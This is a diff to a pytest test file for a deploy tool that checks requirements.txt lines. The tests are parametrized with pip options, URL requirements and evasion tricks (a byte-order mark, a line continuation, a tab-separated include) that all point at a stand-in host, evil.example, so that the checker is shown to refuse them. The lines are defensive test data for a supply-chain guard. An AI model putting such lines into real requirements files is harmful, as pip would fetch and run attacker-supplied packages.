@@ -79,15 +79,26 @@ def test_npm_runs_no_lifecycle_script_unless_the_manifest_allows_it(tmp_path: Pa
     assert allowed[2].read_text() == "ran"
 
 
+URL = "a URL downloads from outside the package index"
+
+
 @pytest.mark.parametrize(
     ("line", "named"),
     [
-        ("--extra-index-url https://evil.example/simple", "--extra-index-url names a package source"),
-        ("-i https://evil.example/simple", "-i names a package source"),
-        ("--trusted-host evil.example", "--trusted-host names a package source"),
-        ("--find-links=https://evil.example/wheels", "--find-links names a package source"),
-        ("payload @ https://evil.example/payload-1.0-py3-none-any.whl", "a URL requirement"),
-        ("git+https://evil.example/payload.git", "a URL requirement"),
+        ("--extra-index-url https://evil.example/simple", URL),
+        ("-i https://evil.example/simple", URL),
+        ("-ihttps://evil.example/simple", URL),  # pip takes a short option's value attached
+        ("--index https://evil.example/simple", URL),  # and any unambiguous prefix of a long one
+        ("--find-links=https://evil.example/wheels", URL),
+        ("payload @ https://evil.example/payload-1.0-py3-none-any.whl", URL),
+        ("git+https://evil.example/payload.git", URL),
+        ("-e git+https://evil.example/payload.git#egg=payload", URL),
+        ("--trusted-host evil.example", "--trusted-host is not an option a deploy allows"),
+        ("--trusted evil.example", "--trusted is not an option a deploy allows"),
+        ("--no-binary :all:", "--no-binary is not an option a deploy allows"),  # sdists run setup.py
+        ("payload==1.0 --no-binary=payload", "--no-binary is not an option a deploy allows"),
+        ("--only-binary :none:", "--only-binary is not an option a deploy allows"),
+        ("-e ./payload", "-e is not an option a deploy allows"),
     ],
 )
 def test_a_requirements_line_naming_a_source_is_refused_with_its_file_and_line(
@@ -116,7 +127,7 @@ def test_the_manifest_can_allow_package_sources_and_hashes_are_not_sources(tmp_p
 
     check_package_sources(lines, allowed=True)
     check_package_sources([line for line in lines if "index-url" not in line.text], allowed=False)
-    with pytest.raises(ManifestError, match="line 2: --index-url names a package source"):
+    with pytest.raises(ManifestError, match="line 2: a URL downloads from outside the package index"):
         check_package_sources(lines, allowed=False)
 
 
@@ -131,3 +142,27 @@ def test_the_dependency_cache_key_covers_files_the_requirements_include(tmp_path
         keys.append(requirements_cache_key(requirements, read_requirements(requirements), PYTHON))
 
     assert keys[0] != keys[1]
+
+
+@pytest.mark.parametrize(
+    ("content", "hidden"),
+    [
+        ("\ufeff--index-url=https://evil.example/simple\n".encode(), "behind a byte-order mark"),
+        (b"--index-\\\nurl https://evil.example/simple\n", "split across a continuation"),
+        (b"-r\tmore.txt\n", "in a file included after a tab"),
+    ],
+)
+def test_a_source_is_found_however_pip_would_read_it(tmp_path: Path, content: bytes, hidden: str) -> None:
+    (tmp_path / "requirements.txt").write_bytes(content)
+    (tmp_path / "more.txt").write_text("--extra-index-url https://evil.example/simple\n")
+
+    with pytest.raises(ManifestError, match=URL):
+        check_package_sources(read_requirements(tmp_path / "requirements.txt"), allowed=False)
+
+
+def test_a_latin_1_requirements_file_is_read_as_pip_reads_it(tmp_path: Path) -> None:
+    (tmp_path / "requirements.txt").write_bytes("# café\nrequests==2.32.3\n".encode("latin-1"))
+
+    lines = read_requirements(tmp_path / "requirements.txt")
+
+    assert [line.text for line in lines] == ["requests==2.32.3"]
